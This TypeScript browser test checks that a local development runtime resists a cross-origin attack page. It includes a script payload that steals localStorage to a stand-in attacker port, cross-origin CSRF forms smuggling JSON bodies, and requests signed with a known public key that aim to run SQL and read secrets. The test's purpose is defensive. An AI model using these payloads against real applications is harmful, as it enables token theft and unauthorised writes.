/**
 * A page on another origin, as a developer running the local runtime might
 * open one: served by a second HTTP server on another port of the same
 * machine (another origin of the same site, the closest a page gets), it
 * tries every route of the attack with what it can know (the public
 * fixed key `local`/`local` the runtime once accepted, the documented ARNs):
 * the S3 form post and a signed download, the Data API and Secrets Manager
 * signed with that key, `/_dev/schedules`, `/beta/submit` with `text/plain`
 * and as a plain HTML form, and the outbox. Nothing is written, nothing runs,
 * nothing is read; and an HTML file in the bucket, opened from there even
 * with a valid link, downloads instead of running on the app's origin.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ExecuteStatementCommand, RDSDataClient } from '@aws-sdk/client-rds-data';
import {
  GetObjectCommand,
  HeadObjectCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { createPresignedPost } from '@aws-sdk/s3-presigned-post';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';
import { LOCAL_EVIDENCE_BUCKET } from '@cpe/local';
import { type WireRequest, inProcessRequestHandler } from '@cpe/local/http';
import { LOCAL_CLUSTER_ARN, LOCAL_SECRET_ARN, sql } from '../support/data-api';
import { createUser } from '../support/users';
import { browserSuite, signInViaUi, startSignedIn } from '../support/web-e2e';

/** The key every local runtime accepted before each data folder had its own. */
const PUBLIC_KEY = { accessKeyId: 'local', secretAccessKey: 'local' };
const REGION = 'ap-southeast-2';
const EVIL_HTML = `<!doctype html><title>evil</title><script>
  const stolen = JSON.stringify(Object.entries(localStorage));
  fetch(location.origin.replace(/:\\d+$/, ':ATTACKER_PORT') + '/steal', { method: 'POST', mode: 'no-cors', body: stolen });
  document.title = 'ran';
</script>`;

interface Attacker {
  origin: string;
  /** Requests the attacker's server received, by path. */
  hits: string[];
  page: string;
  close(): Promise<void>;
}

/** The attacker's server: its page, and a /steal endpoint that records what reaches it. */
async function startAttacker(): Promise<Attacker> {
  const attacker = { hits: [] as string[], page: '' } as Attacker;
  const server: Server = createServer((req, res) => {
    attacker.hits.push(req.url ?? '');
    if (req.url === '/') {
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.end(attacker.page);
      return;
    }
    res.statusCode = 204;
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  attacker.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  attacker.close = () =>
    new Promise((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    });
  return attacker;
}

/** The headers and body a real SDK client signs for a call, with `credentials`, captured instead of sent. */
async function signedCall(
  send: (requestHandler: ReturnType<typeof inProcessRequestHandler>) => Promise<unknown>,
): Promise<{ url: string; headers: Record<string, string>; body: string }> {
  let captured: WireRequest | undefined;
  await send(
    inProcessRequestHandler((request) => {
      captured = request;
      return Promise.resolve({
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: Buffer.from('{}'),
      });
    }),
  );
  if (!captured) throw new Error('the SDK sent nothing');
  // What a page may set; the browser sends Host and Content-Length itself.
  const { host, 'content-length': _length, ...headers } = captured.headers;
  return {
    url: `http://${host}${captured.target}`,
    headers: { ...headers },
    body: Buffer.from(captured.body).toString('utf8'),
  };
}

describe('a page on another origin', () => {
  const suite = browserSuite();
  let attacker: Attacker;

  beforeAll(async () => {
    attacker = await startAttacker();
  });
  afterAll(async () => {
    await attacker?.close();
  });

  const s3 = (credentials: typeof PUBLIC_KEY) =>
    new S3Client({
      region: REGION,
      endpoint: `${suite.runtime.url}/_aws/s3`,
      forcePathStyle: true,
      credentials,
      maxAttempts: 1,
    });

  /** The attack, as the page runs it; each attempt's outcome as the page could see it. */
  async function attackPlan() {
    const runtime = suite.runtime;
    const publicS3 = s3(PUBLIC_KEY);
    const post = await createPresignedPost(publicS3, {
      Bucket: LOCAL_EVIDENCE_BUCKET,
      Key: 'pwn/evil.html',
      Conditions: [['eq', '$Content-Type', 'text/html']],
      Fields: { 'Content-Type': 'text/html' },
      Expires: 600,
    });
    const download = await getSignedUrl(
      publicS3,
      new GetObjectCommand({ Bucket: LOCAL_EVIDENCE_BUCKET, Key: 'users/victim/files/proof.pdf' }),
      { expiresIn: 600 },
    );
    const dataApi = await signedCall((requestHandler) =>
      new RDSDataClient({
        region: REGION,
        endpoint: `${runtime.url}/_aws/rds-data`,
        credentials: PUBLIC_KEY,
        requestHandler,
      }).send(
        new ExecuteStatementCommand({
          resourceArn: LOCAL_CLUSTER_ARN,
          secretArn: LOCAL_SECRET_ARN,
          database: 'cpe',
          sql: 'create table pwned (stolen text)',
        }),
      ),
    );
    const secrets = await signedCall((requestHandler) =>
      new SecretsManagerClient({
        region: REGION,
        endpoint: `${runtime.url}/_aws/secretsmanager`,
        credentials: PUBLIC_KEY,
        requestHandler,
      }).send(new GetSecretValueCommand({ SecretId: 'cpe-local-reminders' })),
    );
    return {
      post: { url: post.url, fields: Object.entries(post.fields) },
      evil: EVIL_HTML,
      download,
      dataApi,
      secrets,
      schedules: `${runtime.url}/_dev/schedules/reminder-digest`,
      contact: `${runtime.url}/beta/submit`,
      outbox: `${runtime.url}/_dev/mail.json`,
    };
  }

  function attackPage(plan: Awaited<ReturnType<typeof attackPlan>>): string {
    const json = JSON.stringify(plan).replace(/</g, '\\u003c');
    return `<!doctype html><html><head><title>attacking</title></head><body>
<iframe name="sink" id="sink"></iframe>
<form id="classic" method="POST" enctype="text/plain" target="sink" action="${plan.schedules}">
  <input name='{"now":"2031-01-01T08:00:00Z","x":"' value='"}'>
</form>
<form id="contact" method="POST" enctype="text/plain" target="sink" action="${plan.contact}">
  <input name='{"name":"Eve","email":"eve@example.com","message":"hi","x":"' value='"}'>
</form>
<script>
const plan = ${json};
const results = {};
async function attempt(name, run) {
  try {
    const response = await run();
    let body = '';
    try { body = await response.text(); } catch (error) { body = 'unreadable'; }
    results[name] = { type: response.type, status: response.status, body };
  } catch (error) {
    results[name] = { blocked: String(error) };
  }
}
function submitted(form) {
  return new Promise((resolve) => {
    const sink = document.getElementById('sink');
    sink.addEventListener('load', () => resolve(), { once: true });
    document.getElementById(form).submit();
  });
}
(async () => {
  const form = () => {
    const data = new FormData();
    for (const [name, value] of plan.post.fields) data.append(name, value);
    data.append('file', new Blob([plan.evil], { type: 'text/html' }), 'evil.html');
    return data;
  };
  await attempt('s3 form post', () => fetch(plan.post.url, { method: 'POST', body: form() }));
  await attempt('s3 form post, no-cors', () =>
    fetch(plan.post.url, { method: 'POST', body: form(), mode: 'no-cors' }));
  await attempt('s3 signed download', () => fetch(plan.download));
  await attempt('data api, signed', () =>
    fetch(plan.dataApi.url, { method: 'POST', headers: plan.dataApi.headers, body: plan.dataApi.body }));
  await attempt('data api, no-cors', () =>
    fetch(plan.dataApi.url, { method: 'POST', mode: 'no-cors', headers: plan.dataApi.headers, body: plan.dataApi.body }));
  await attempt('secrets manager, signed', () =>
    fetch(plan.secrets.url, { method: 'POST', headers: plan.secrets.headers, body: plan.secrets.body }));
  await attempt('secrets manager, no-cors', () =>
    fetch(plan.secrets.url, { method: 'POST', mode: 'no-cors', headers: plan.secrets.headers, body: plan.secrets.body }));
  const asOf = JSON.stringify({ now: '2031-01-01T08:00:00Z' });
  await attempt('schedules, no-cors', () =>
    fetch(plan.schedules, { method: 'POST', mode: 'no-cors', body: asOf }));
  await attempt('schedules, json', () =>
    fetch(plan.schedules, { method: 'POST', headers: { 'content-type': 'application/json' }, body: asOf }));
  await submitted('classic');
  const message = JSON.stringify({ name: 'Eve', email: 'eve@example.com', message: 'hi' });
  await attempt('contact, text/plain', () =>
    fetch(plan.contact, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: message }));
  await attempt('contact, json', () =>
    fetch(plan.contact, { method: 'POST', headers: { 'content-type': 'application/json' }, body: message }));
  await submitted('contact');
  await attempt('outbox', () => fetch(plan.outbox));
  window.results = results;
  document.title = 'done';
})();
</script></body></html>`;
  }

  it('can write, run and read nothing: no object, no SQL, no secret, no job, no message, no mail', async () => {
    const { runtime, page } = suite;
    const user = await createUser(runtime);
    // The top bar reads the inbox's count once signed in.
    const inboxCounted = page.waitForResponse(
      (response) => new URL(response.url()).pathname === '/api/proposals',
    );
    await signInViaUi(suite, user.email, user.password);
    // The app's own calls after signing in finish before the counts start.
    await inboxCounted;
    await page.waitForLoadState('networkidle');
    const outboxBefore = runtime.outbox.list().length;
    attacker.page = attackPage(await attackPlan());
    runtime.rdsData.calls.reset();
    runtime.secrets.calls.reset();
    runtime.s3.calls.reset();

    await page.goto(`${attacker.origin}/`);
    await page.waitForFunction(() => document.title === 'done', undefined, { timeout: 30_000 });
    const results = (await page.evaluate(
      () => (window as unknown as { results: unknown }).results,
    )) as Record<string, { blocked?: string; type?: string; status?: number; body?: string }>;

    // The page read nothing: each attempt failed in the browser or came back opaque (no status, no body).
    expect(Object.keys(results).sort()).toEqual(
      [
        's3 form post',
        's3 form post, no-cors',
        's3 signed download',
        'data api, signed',
        'data api, no-cors',
        'secrets manager, signed',
        'secrets manager, no-cors',
        'schedules, no-cors',
        'schedules, json',
        'contact, text/plain',
        'contact, json',
        'outbox',
      ].sort(),
    );
    for (const [name, outcome] of Object.entries(results)) {
      const unread =
        outcome.blocked !== undefined || (outcome.type === 'opaque' && outcome.body === '');
      expect({ name, unread }).toEqual({ name, unread: true });
    }

    // Nothing was written, run or read on the runtime's side. The form posts and the download
    // reached S3 and were refused there (an unknown key); nothing else reached any service.
    expect(runtime.s3.calls.byOperation).toEqual({ PostObject: 2, GetObject: 1 });
    const client = s3(runtime.credentials);
    await expect(
      client.send(new HeadObjectCommand({ Bucket: LOCAL_EVIDENCE_BUCKET, Key: 'pwn/evil.html' })),
    ).rejects.toMatchObject({ name: 'NotFound' });
    expect(runtime.rdsData.calls.total).toBe(0);
    expect(runtime.secrets.calls.total).toBe(0);
    expect(
      await sql(runtime, "select count(*)::int as n from pg_tables where tablename = 'pwned'"),
    ).toEqual([{ n: 0 }]);
    expect(await sql(runtime, 'select count(*)::int as n from contact_messages')).toEqual([
      { n: 0 },
    ]);
    expect(runtime.outbox.list()).toHaveLength(outboxBefore);
    // Nothing came back to the attacker but the page itself (and the browser's own favicon request).
    expect(attacker.hits.filter((hit) => hit !== '/' && hit !== '/favicon.ico')).toEqual([]);
    client.destroy();
  }, 120_000);

  it("downloads an HTML file from the bucket instead of running it on the app's origin, even asked inline", async () => {
    const { runtime, page } = suite;
    const user = await createUser(runtime);
    // Signed in: the tokens the script would steal are in the app origin's storage.
    await startSignedIn(suite, user);
    const client = s3(runtime.credentials);
    const evil = EVIL_HTML.replace('ATTACKER_PORT', new URL(attacker.origin).port);
    const key = `users/${user.userId}/files/evil.html`;
    await client.send(
      new PutObjectCommand({
        Bucket: LOCAL_EVIDENCE_BUCKET,
        Key: key,
        Body: evil,
        ContentType: 'text/html',
      }),
    );
    // Even a link signed with the runtime's own key, as if the attacker had obtained one.
    const links = [
      await getSignedUrl(
        client,
        new GetObjectCommand({ Bucket: LOCAL_EVIDENCE_BUCKET, Key: key }),
        {
          expiresIn: 600,
        },
      ),
      await getSignedUrl(
        client,
        new GetObjectCommand({
          Bucket: LOCAL_EVIDENCE_BUCKET,
          Key: key,
          ResponseContentDisposition: 'inline',
          ResponseContentType: 'text/html',
        }),
        { expiresIn: 600 },
      ),
    ];
    for (const link of links) {
      attacker.page = `<!doctype html><a id="open" href="${link.replace(/&/g, '&amp;')}">open</a>`;
      await page.goto(`${attacker.origin}/`);
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#open')]);
      expect(download.suggestedFilename()).toBe('evil.html');
      await download.cancel();
    }
    expect(await page.title()).not.toBe('ran');
    expect(attacker.hits.filter((hit) => hit.startsWith('/steal'))).toEqual([]);
    client.destroy();
  }, 120_000);
});
